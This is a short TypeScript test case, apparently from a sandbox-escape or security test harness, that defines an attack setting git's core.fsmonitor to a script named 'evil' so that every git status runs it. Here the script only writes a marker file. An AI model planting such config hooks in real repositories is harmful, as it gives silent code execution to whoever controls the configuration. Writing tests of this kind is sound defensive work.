import { type Attack, sh } from '../attack.js'
import { repository, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/file-system-monitor',
  tries: 'to name a program in the configuration that every git status runs',
  source: 'CVE-2026-26268 (core.fsmonitor)',
  prepare: (stage) => repository(stage),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
git -C "$W" config core.fsmonitor "$S/evil" || printf '[core]\nfsmonitor = %s\n' "$S/evil" >> "$W/.git/config"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
}
